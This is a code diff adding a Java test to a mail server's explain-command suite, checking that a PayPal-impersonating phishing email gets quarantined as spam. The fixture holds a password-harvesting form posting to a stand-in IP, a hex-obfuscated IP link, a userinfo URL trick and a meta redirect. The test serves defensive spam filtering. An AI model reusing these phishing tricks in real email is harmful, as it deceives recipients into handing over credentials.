@@ -197,6 +197,42 @@ class ExplainCommandTest {
     }
 
     @Test
+    void keepsSpamBeyondDoubtFromStrangersAndNotFromAccounts() throws IOException {
+        writeWorld();
+        String spam = """
+                From: "PayPal support 4471923" <AUTHOR>
+                Subject: URGENT!! YOUR ACCOUNT IS SUSPENDED
+                X-Priority: 1
+                Content-Type: text/html
+
+                <form action="http://198.51.100.7/x"><input type="password" name="p"></form>
+                <a href="http://0xC6336407/login">https://www.paypal.com/</a> verify your account, click here
+                <a href="http://www.paypal.com@198.51.100.7/">paypal.com</a><script>x()</script>
+                <meta http-equiv="refresh" content="0;url=http://198.51.100.7/">
+                """;
+        write("stranger.eml", spam.replace("AUTHOR", "a1234567@verify.top"));
+        write("account.eml", spam.replace("AUTHOR", "joe@example.com"));
+        String rest = "\"from\":\"joe@example.com\",\"rcpt\":\"bob@relay.example\",\"ip\":\"203.0.113.1\","
+                + "\"helo\":\"h.example\",\"dns\":\"zone\"}";
+        List<JsonNode> answers = answers(Stream.of(
+                "{\"id\":\"quarantine\",\"file\":\"stranger.eml\"," + rest,
+                "{\"id\":\"relay\",\"file\":\"account.eml\",\"auth\":\"joe@example.com\"," + rest));
+        assertThat(answers).hasSize(2).allSatisfy(answer -> {
+            String id = answer.path("id").asText();
+            assertThat(answer.path("disposition").asText())
+                    .as(answer.toString())
+                    .isEqualTo(id);
+            assertThat(answer.at("/recipients/0/disposition").asText()).isEqualTo(id);
+        });
+        assertThat(answers.get(0).at("/spam/score").asDouble()).isGreaterThan(12);
+        assertThat(answers.get(1).at("/spam/score").asDouble()).isGreaterThan(12);
+        assertThat(answers.get(0).path("steps").findValuesAsText("processor")).contains("spam");
+        assertThat(answers.get(0).path("steps").findValuesAsText("mailet")).contains("Quarantine");
+        assertThat(answers.get(0).at("/recipients/0/reason").asText())
+                .isEqualTo("SpamScoreAbove=12: kept back as spam");
+    }
+
+    @Test
     void goesOnAfterBrokenCases() throws IOException {
         writeWorld();
         List<JsonNode> answers = answers(Stream.of(
